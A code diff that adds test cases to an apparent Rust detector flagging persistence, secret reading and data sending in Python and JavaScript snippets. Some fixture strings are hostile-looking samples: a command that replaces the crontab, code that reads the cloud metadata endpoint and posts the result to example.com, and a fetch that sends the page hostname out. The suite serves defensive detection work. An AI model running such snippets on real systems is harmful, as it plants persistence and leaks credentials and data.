@@ -208,6 +208,32 @@ fn told(steps: &[Step], feature: Feature, detail: &str) -> bool {
 #[case::zones("z = {'Europe/Moscow': 1, 'Europe/London': 2}", Feature::CheckEnvironment, "", false)]
 #[case::weights("import torch\ntorch.save(a, 'model.pth')", Feature::Persist, "", false)]
 #[case::start_file("open('/usr/lib/python3/site-packages/a.pth', 'w')", Feature::Persist, "interpreter start", true)]
+#[case::set_for_a_test(
+    "import os\nfrom unittest import mock\nmock.patch.dict(os.environ, {'A': '1'})",
+    Feature::ReadSecret,
+    "environment whole",
+    false
+)]
+#[case::schedule("kind = {'type': 'crontab'}\nk = 'db.cursor'", Feature::Persist, "", false)]
+#[case::table_set("import os\nos.system('crontab -r; crontab /tmp/x')", Feature::Persist, "cron", true)]
+#[case::machine_asked(
+    "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')",
+    Feature::SendData,
+    "send secret",
+    false
+)]
+#[case::machine_told(
+    "import requests\na = requests.get('http://169.254.169.254/latest/meta-data/').text\nrequests.post('https://example.com', data=a)",
+    Feature::SendData,
+    "send secret",
+    true
+)]
+#[case::opened_to_be_written(
+    "import requests\nf = open('a.txt', 'w')\nrequests.post('https://example.com', data=f)",
+    Feature::SendData,
+    "send file",
+    false
+)]
 #[case::zone("x = zone == 'Europe/Moscow'", Feature::CheckEnvironment, "locale", true)]
 #[case::place_of_a_file(
     "import os, requests\nh = os.path.expanduser('~') + os.getlogin()\nrequests.post('https://example.com', data=open(h + '/a.txt').read())",
@@ -381,6 +407,13 @@ fn in_python(#[case] source: &str, #[case] feature: Feature, #[case] detail: &st
     "environment whole",
     true
 )]
+#[case::resolved_against_the_page(
+    "fetch(new URL('/a', window.location.href))",
+    Feature::SendData,
+    "send host",
+    false
+)]
+#[case::page_told("fetch('https://example.com/?u=' + window.location.hostname)", Feature::SendData, "send host", true)]
 #[case::browser_by_name("const names = ['vivaldi', 'brave-browser']", Feature::ReadSecret, "", false)]
 #[case::own_module("require('./lib/cookies')", Feature::ReadSecret, "", false)]
 #[case::mail_address("fetch('https://example.com/outlook/a')", Feature::ReadSecret, "", false)]
